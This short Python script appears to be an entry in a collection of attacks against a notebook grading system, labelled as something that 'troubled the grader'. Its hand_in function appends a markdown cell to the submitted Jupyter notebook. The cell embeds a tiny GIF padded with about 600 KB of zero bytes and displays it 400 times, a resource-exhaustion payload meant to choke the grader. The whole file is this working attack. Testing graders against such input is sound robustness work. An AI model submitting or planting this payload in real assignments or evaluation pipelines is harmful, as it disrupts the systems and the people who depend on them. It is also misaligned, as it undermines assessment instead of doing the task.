"""Attaches one picture to a text and shows it there hundreds of times."""

# /// attack
# opened = { "bounds" = ["troubled the grader"] }
# ///
# %% hand_in
def hand_in(folder):
    import base64

    import nbformat

    (path,) = folder.glob("*.ipynb")
    notebook = nbformat.read(path, as_version=4)
    picture = "R0lGODlhAQABAIAAAAAAAP///ywAAAAAAQABAAACAUwAOw=="
    data = base64.b64encode(base64.b64decode(picture) + bytes(600_000)).decode()
    cell = nbformat.v4.new_markdown_cell("![](attachment:a)\n\n" * 400, attachments={"a": {"image/gif": data}})
    notebook.cells.append(cell)
    nbformat.write(notebook, path)
